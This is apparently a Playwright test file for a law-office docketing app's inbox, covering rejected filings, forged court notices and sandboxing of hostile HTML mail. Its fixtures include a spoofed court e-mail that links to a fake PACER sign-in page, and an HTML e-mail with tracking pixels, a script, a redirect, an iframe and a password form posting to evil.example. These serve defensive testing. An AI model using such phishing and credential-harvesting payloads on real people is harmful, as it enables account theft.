"""Mail that is no docket entry: opened, filed and dated; a rejected filing; a forged sender."""

from __future__ import annotations

from playwright.sync_api import FilePayload, expect

from tests.browser.conftest import OpenDesk
from tests.browser.test_paralegal import REYES, drop

REJECTED = (
    b"From: no-reply@efilingmail.tylertech.cloud\nSubject: Filing Returned for Case: 2027-CV-09999, A v. B\n"
    b"Content-Type: text/plain\n\nWrong case number.\n"
)
UNKNOWN = b"From: Pat Noor <pat@noorlaw.example>\nSubject: Stipulation to April 2\n\nMay I file it?\n"
FORGED = (
    b"From: ecf@cod-uscourts.example\nSubject: Activity in Case\nContent-Type: text/html\n\n"
    b"Notice of Electronic Filing <a href='https://pacer-login.example/'>Sign in</a>"
)


HOSTILE = (
    b"From: a@notices.example\nSubject: Your hearing notice\nContent-Type: text/html\n\n"
    b"<style>@import url(https://track.example/a.css); p { background: url(https://track.example/b) }</style>"
    b"<p>The hearing is on Monday.</p><img src='https://track.example/1.png'><script>document.title='x'</script>"
    b"<a href='https://evil.example/' target=_top>Read the notice</a>"
    b"<form action='https://evil.example/'><input name=password><button>Sign in</button></form>"
    b"<meta http-equiv=refresh content='0;url=https://evil.example/'><iframe src='https://evil.example/'></iframe>"
)


def as_file(name: str, raw: bytes) -> FilePayload:
    return {"name": f"{name}.eml", "mimeType": "message/rfc822", "buffer": raw}


def test_a_rejected_filing_is_red_on_today_until_it_is_filed_again(open_desk: OpenDesk) -> None:
    dana = open_desk("paralegal")
    drop(dana, as_file("rejected", REJECTED))
    dana.go("/")
    notice = dana.page.locator(".notice[data-tone=bad]", has_text="2027-CV-09999")
    expect(notice).to_be_visible()
    dana.assert_accessible()
    notice.get_by_role("link", name="Open it").click()
    dana.assert_accessible()
    dana.button("Filed again").click()
    expect(dana.page.get_by_text("Noted: filed again.")).to_be_visible()
    dana.go("/")
    expect(notice).to_have_count(0)


def test_an_unknown_email_is_opened_filed_and_made_a_date(open_desk: OpenDesk) -> None:
    dana = open_desk("paralegal")
    drop(dana, as_file("unknown", UNKNOWN))
    dana.go("/inbox/").link("Stipulation to April 2").click()
    expect(dana.page.get_by_text("May I file it?")).to_be_visible()
    dana.assert_accessible()
    dana.page.get_by_role("link", name="File to a matter").click()
    dana.field("Matter").fill("NF-INJ-014")
    dana.button("File the e-mail").click()
    expect(dana.page.get_by_text("Filed. Add a date or a task from it here.")).to_be_visible()
    dana.page.get_by_role("link", name="Add a date").click()
    dana.assert_accessible()
    dana.go("/matters/").link(REYES).click()
    expect(dana.page.get_by_role("list", name="Timeline")).to_contain_text("filed an e-mail")


def test_a_moved_hearing_is_struck_with_one_click_on_its_own_page(open_desk: OpenDesk) -> None:
    """The demonstration's conference, which a minute order reset this morning."""
    dana = open_desk("paralegal")
    row = dana.go("/inbox/").page.locator("#changes tbody tr").first
    expect(row).to_contain_text("The court may have moved this: no. 15.")
    dana.assert_accessible()
    row.get_by_role("link").first.click()
    mark = dana.page.locator(".notice", has_text="The court may have moved this")
    expect(mark.locator("s")).to_be_visible()
    dana.assert_accessible()
    mark.get_by_role("button", name="Take the old date off").click()
    expect(dana.page.locator(".notice", has_text="The court moved this").locator("s")).to_be_visible()
    assert "Canceled" in dana.text or "Rejected" in dana.text or "no longer stands" in dana.text
    dana.go("/inbox/")
    expect(dana.page.locator("#changes")).to_have_count(0)


def test_a_forged_notice_is_held_compared_and_rejected(open_desk: OpenDesk) -> None:
    """The demonstration's look-alike: other words under no. 14, from a host that is no court's."""
    dana = open_desk("paralegal")
    row = dana.go("/inbox/").page.locator("#held tbody tr")
    expect(row).to_contain_text("It differs from no. 14")
    expect(row).to_contain_text("pacer-login.example")
    row.get_by_role("link", name="Compare").click()
    expect(dana.page.get_by_text("Docketed here before under this number:")).to_be_visible()
    dana.assert_accessible()
    dana.button("It is not the court's").click()
    expect(dana.page.get_by_text("Noted: not the court's.")).to_be_visible()
    expect(dana.page.locator("#held")).to_have_count(0)


def test_its_html_asks_nobody_for_anything(open_desk: OpenDesk) -> None:
    """Scripts, pictures, forms and links of a hostile e-mail: no request leaves the page, nothing runs."""
    dana = open_desk("paralegal")
    asked: list[str] = []
    dana.context.on("request", lambda request: asked.append(request.url))
    drop(dana, as_file("hostile", HOSTILE))
    dana.go("/inbox/").link("Your hearing notice").click()
    framed = dana.page.frame_locator("iframe")
    expect(framed.get_by_text("The hearing is on Monday.")).to_be_visible()
    framed.get_by_text("Read the notice").click()
    dana.assert_accessible()
    dana.link("Show it as text").click()
    expect(dana.page.get_by_text("The hearing is on Monday.")).to_be_visible()
    assert dana.page.locator("iframe").count() == 0
    assert [url for url in asked if not url.startswith((dana.address, "data:"))] == []


def test_a_forged_sender_is_warned_of(open_desk: OpenDesk) -> None:
    dana = open_desk("paralegal")
    drop(dana, as_file("forged", FORGED))
    row = dana.go("/inbox/").page.locator("#emails tbody tr", has_text="cod-uscourts.example")
    expect(row).to_contain_text("do not sign in through it")
    dana.assert_accessible()
